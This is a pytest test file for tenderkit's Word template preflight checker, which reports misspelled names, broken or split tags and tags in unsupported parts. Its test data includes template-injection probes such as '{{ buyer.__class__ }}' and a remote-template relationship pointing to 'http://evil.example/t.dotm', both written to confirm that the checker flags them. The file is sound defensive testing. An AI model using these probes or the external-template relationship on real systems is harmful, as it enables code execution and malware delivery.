# SPDX-FileCopyrightText: 2026 The tenderkit contributors
# SPDX-License-Identifier: EUPL-1.2
"""Everything that is wrong with a Word template is found at once, with its place."""

import pytest

from tenderkit.rendering.town.preflight import findings

WRAPPERS = {
    "ins": '<w:ins w:id="1" w:author="a" w:date="2026-01-01T00:00:00Z">',
    "hyperlink": '<w:hyperlink w:anchor="x">',
    "smartTag": '<w:smartTag w:uri="u" w:element="e">',
    "sdt": "<w:sdt><w:sdtContent>",
}


def run(text):
    return f'<w:r><w:t xml:space="preserve">{text}</w:t></w:r>'


def wrapped(kind, inside):
    opening = WRAPPERS[kind]
    names = [part.split()[0].strip("<>") for part in opening.split("><")]
    closing = "".join(f"</{name}>" for name in reversed(names))
    return f"{opening}{inside}{closing}"


def test_a_sound_template_gives_nothing_to_report(word, complaints):
    data = word("An {{ buyer.name }}", "{%p for lot in lots %}", "Los {{ lot.id }}", "{%p endfor %}")

    assert complaints(data) == []


def test_all_findings_come_at_once(word, complaints):
    found = complaints(word("{{ buyer.nam }}", "{{ offen", "{%p if lots %} WICHTIG", header="{{ titel }}"))

    assert len(found) == 5


def test_an_unknown_name_is_told_with_its_paragraph_and_the_nearest_known_one(word, complaints):
    (found,) = complaints(word("Guten Tag", "An {{ buyer.nam }}"))

    where, _, fault = found.partition(": ")
    assert where == "word/document.xml, paragraph 2 (An {{ buyer.nam }})"
    assert fault == "the name buyer.nam is unknown; is buyer.name meant?"


def test_an_unknown_name_in_a_table_is_told_with_its_cell(word, complaints):
    cells = f"<w:tc><w:p/></w:tc><w:tc><w:p>{run('{{ tender.titel }}')}</w:p></w:tc>"
    table = f"<w:tbl><w:tblPr/><w:tblGrid><w:gridCol/><w:gridCol/></w:tblGrid><w:tr>{cells}</w:tr></w:tbl>"

    (found,) = complaints(word(table))

    where, _, fault = found.partition(": ")
    assert where == "word/document.xml, table 1, row 1, cell 2 ({{ tender.titel }})"
    assert fault == "the name tender.titel is unknown; is tender.title meant?"


def test_an_unknown_name_in_a_header_is_told_with_its_part(word, complaints):
    (found,) = complaints(word(header="{{ dokument.title }}"))

    assert found.startswith("word/header1.xml, paragraph 1")
    assert found.endswith("the name dokument is unknown; is document meant?")


def test_names_are_followed_through_loops(word, complaints):
    (found,) = complaints(word("{% for lot in lots %}{{ lot.id }} {{ lot.titel }}{% endfor %}"))

    assert found.endswith("the name lot.titel is unknown; is lot.title meant?")


def test_a_loop_variable_is_unknown_behind_its_loop(word, complaints):
    (found,) = complaints(word("{% for lot in lots %}{{ lot.id }}{% endfor %}{{ lot.id }}"))

    assert "the name lot is unknown" in found


def test_a_tag_that_word_split_into_runs_is_read_as_one(word, complaints):
    assert complaints(word(f"<w:p>{run('{{ buyer')}{run('.name }')}{run('}')}</w:p>")) == []


@pytest.mark.parametrize("kind", WRAPPERS)
@pytest.mark.parametrize("direction", ["begins inside", "begins outside"])
def test_a_tag_that_straddles_a_wrapper_is_found(word, complaints, kind, direction):
    first, second = run("{{ buyer"), run(".name }}")
    inside = direction == "begins inside"
    line = wrapped(kind, first) + second if inside else first + wrapped(kind, second)

    found = complaints(word(f"<w:p>{line}</w:p>"))

    assert any("begins inside" in text and kind in text for text in found)


def test_tracked_changes_must_be_accepted_first(word, complaints):
    (found,) = complaints(word(f"<w:p>{wrapped('ins', run('neu'))}</w:p>", "{{ buyer.name }}"))

    assert "tracked changes" in found


def test_text_beside_a_tag_that_takes_its_paragraph_is_found(word, complaints):
    found = complaints(word("{%p if lots %} WICHTIG", "{%p endif %}"))

    assert [text.rpartition(": ")[2] for text in found] == [
        "beside {%p if lots %} stands 'WICHTIG', which would be lost"
    ]


def test_two_tags_that_take_the_same_paragraph_are_found(word, complaints):
    assert any("shares its paragraph" in text for text in complaints(word("{%p if lots %}{%p endif %}")))


def test_text_beside_a_tag_that_takes_its_row_is_found(word, complaints):
    cells = "".join(f"<w:tc><w:p>{run(text)}</w:p></w:tc>" for text in ("{%tr if lots %}", "Summe"))
    row = f"<w:tr><w:tc><w:p>{run('{%tr endif %}')}</w:p></w:tc><w:tc><w:p/></w:tc></w:tr>"
    grid = "<w:tblPr/><w:tblGrid><w:gridCol/><w:gridCol/></w:tblGrid>"

    (found,) = complaints(word(f"<w:tbl>{grid}<w:tr>{cells}</w:tr>{row}</w:tbl>"))

    assert found.endswith("beside {%tr if lots %} stands 'Summe', which would be lost")


def test_a_tag_for_a_row_outside_of_a_table_is_found(word, complaints):
    assert any("stands in no table" in text for text in complaints(word("{%tr if lots %}", "{%tr endif %}")))


def test_what_is_no_text_in_the_midst_of_a_tag_is_found(word, complaints):
    line = f"<w:p>{run('{{ buyer')}<w:r><w:br/></w:r>{run('.name }}')}</w:p>"

    assert "no text and would be lost" in complaints(word(line))[0]


def test_a_statement_that_is_closed_in_another_cell_is_found(word, complaints):
    cells = "".join(f"<w:tc><w:p>{run(text)}</w:p></w:tc>" for text in ("{%p if lots %}", "{%p endif %}"))
    grid = "<w:tblPr/><w:tblGrid><w:gridCol/><w:gridCol/></w:tblGrid>"

    assert "another table, cell or text" in complaints(word(f"<w:tbl>{grid}<w:tr>{cells}</w:tr></w:tbl>"))[0]


@pytest.mark.parametrize(
    ("tag", "words"),
    [
        ("{{ buyer.name | safe }}", "the name | safe is unknown"),
        ("{% autoescape false %}", "none of the statements"),
        ("{% macro m() %}", "none of the statements"),
        ("{% include 'x' %}", "none of the statements"),
        ("{{ buyer.__class__ }}", "__class__ may not be used"),
        ("{{ buyer['__class__'] }}", "__class__ may not be used"),
        ("{{ cycler.__init__ }}", "the name cycler is unknown"),
        ("{{r buyer.name }}", "formatted text"),
        ("{{p buyer.name }}", "Word's own language"),
        ("{{ buyer.name -}}", "would swallow"),
        ("{%- if lots %}", "would swallow"),
        ("{% if lots %}", "is not closed by endif"),
        ("{% endif %}", "has no if before it"),
        ("{{ buyer. }}", "cannot be understood"),
        ("{{ }", "has no partner"),
        ("{{ lots is odd_thing }}", "the name is odd_thing is unknown"),
    ],
)
def test_what_no_template_may_say_is_found(word, complaints, tag, words):
    assert any(words in text for text in complaints(word(tag)))


@pytest.mark.parametrize("name", ["category", "keywords", "title"])
def test_tags_in_properties_are_found(word, complaints, name):
    assert complaints(word("x", **{name: "{{ buyer.name }}"})) == [
        "docProps/core.xml: tags are not filled in this part: {{ buyer.name }}"
    ]


@pytest.mark.parametrize(
    "part",
    [
        "word/endnotes.xml",
        "word/comments.xml",
        "word/charts/chart1.xml",
        "customXml/item1.xml",
        "docProps/custom.xml",
    ],
)
def test_tags_in_parts_that_are_not_filled_are_found(word, with_part, complaints, part):
    data = with_part(word("x"), {part: "<a><b>Los {{ lots[0].id }}</b></a>"})

    assert complaints(data) == [f"{part}: tags are not filled in this part: Los {{{{ lots[0].id }}}}"]


def test_a_tag_in_a_field_code_is_found(word, complaints):
    code = "<w:r><w:instrText> HYPERLINK {{ buyer.name }} </w:instrText></w:r>"

    assert any("a field of Word holds a tag" in text for text in complaints(word(f"<w:p>{code}</w:p>")))


def test_a_file_that_fetches_from_elsewhere_is_found(word, with_part, complaints):
    relations = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" TargetMode="External" Target="http://evil.example/t.dotm" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></Relationships>'
    )

    (found,) = complaints(with_part(word("{{ buyer.name }}"), {"word/_rels/settings.xml.rels": relations}))

    assert "the file fetches from elsewhere (attachedTemplate): http://evil.example/t.dotm" in found


def test_a_template_for_another_language_is_found_where_the_language_is_known(word):
    german = word("{{ buyer.name }}", language="de-DE")

    assert [finding.rule for finding in findings(german, {"buyer": None}, "en")] == ["TK059"]
    assert findings(german, {"buyer": None}, "de") == findings(german, {"buyer": None}) == []
    assert findings(word("{{ buyer.name }}"), {"buyer": None}, "en") == []


def test_a_template_with_a_broken_tag_has_that_fault_alone(word, complaints):
    (found,) = complaints(word("{{ buyer.name"))

    assert "has no partner" in found
